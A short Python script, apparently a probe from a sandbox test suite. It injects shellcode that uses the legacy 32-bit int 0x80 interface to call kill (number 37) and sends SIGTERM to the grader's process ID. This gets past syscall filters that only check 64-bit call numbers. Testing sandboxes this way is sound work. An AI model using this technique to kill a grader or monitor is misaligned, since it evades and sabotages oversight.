"""Makes a call by int 0x80, under the numbers of another architecture: kill is 37 there."""

import ctypes
import mmap
import struct

from target import GRADER, X86_64

if X86_64:
    code = (
        b"\x53\xb8\x25\0\0\0\xbb" + struct.pack("=i", GRADER) + b"\xb9\x0f\0\0\0\xcd\x80\x5b\xc3"
    )  # push rbx; mov eax, 37; mov ebx, GRADER; mov ecx, 15; int 0x80; pop rbx; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
